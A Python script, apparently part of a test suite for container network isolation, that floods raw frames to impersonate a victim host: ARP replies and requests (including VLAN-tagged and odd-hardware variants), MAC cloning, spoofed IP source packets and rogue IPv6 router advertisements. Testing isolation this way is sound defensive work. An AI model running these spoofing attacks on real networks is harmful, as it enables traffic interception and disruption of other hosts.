"""What root in a container may try: attack.py KIND OWN_MAC VICTIM_IP VICTIM_MAC SECONDS.

It claims the victim's address in one way, over and over, while its port 7000 says "attacker".
"""
import socket
import struct
import subprocess
import sys
import time

kind, own_mac, victim_ip, victim_mac, seconds = sys.argv[1:]
BROADCAST = b"\xff" * 6


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def run(*command):
    subprocess.run(command, check=False, capture_output=True)


def arp(sender, operation=2, hardware=1):
    """A gratuitous reply or request: the victim's address is at this sender."""
    ip = socket.inet_aton(victim_ip)
    return struct.pack("!HHBBH", hardware, 0x0800, 6, 4, operation) + sender + ip + BROADCAST + ip


def ethernet(source, kind, payload):
    return BROADCAST + source + struct.pack("!H", kind) + payload


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def router_advertisement():
    """The sender is everyone's router, for half an hour."""
    link_local = open("/proc/net/if_inet6").read().split("eth0")[-2].split()[-5]
    source = bytes.fromhex(link_local)
    target = socket.inet_pton(socket.AF_INET6, "ff02::1")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    pseudo = source + target + struct.pack("!II", len(body), 58)
    total = checksum(pseudo + body)
    body = body[:2] + struct.pack("!H", total) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
    frame = ethernet(mac(own_mac), 0x86DD, header + body)
    return b"\x33\x33\x00\x00\x00\x01" + frame[6:]


def spoofed_packet():
    """A packet to everyone's port 7001 whose source is the victim's address."""
    body = struct.pack("!HHHH", 7001, 7001, 16, 0) + b"attacker"
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0)
    header += socket.inet_aton(victim_ip) + socket.inet_aton("255.255.255.255")
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return ethernet(mac(own_mac), 0x0800, header + body)


frames = {
    "address": ethernet(mac(own_mac), 0x0806, arp(mac(own_mac), operation=1)),
    "arp": ethernet(mac(own_mac), 0x0806, arp(mac(own_mac))),
    "arp-other-hardware": ethernet(mac(own_mac), 0x0806, arp(mac(own_mac), hardware=6)),
    "arp-tagged": ethernet(mac(own_mac), 0x8100, b"\x00\x00\x08\x06" + arp(mac(own_mac))),
    "mac": ethernet(mac(victim_mac), 0x0806, arp(mac(victim_mac))),
    "source": spoofed_packet(),
    "router": router_advertisement(),
}
if kind == "address":
    run("ip", "address", "add", f"{victim_ip}/24", "dev", "eth0")
elif kind in ("arp", "arp-other-hardware", "arp-tagged", "mac"):
    run("ip", "address", "add", f"{victim_ip}/32", "dev", "lo")
if kind == "mac":
    run("ip", "link", "set", "dev", "eth0", "address", victim_mac)
try:
    packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    packet.bind(("eth0", 0))
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        packet.send(frames[kind])
        time.sleep(0.005)
finally:
    run("ip", "link", "set", "dev", "eth0", "address", own_mac)
    run("ip", "address", "del", f"{victim_ip}/24", "dev", "eth0")
    run("ip", "address", "del", f"{victim_ip}/32", "dev", "lo")
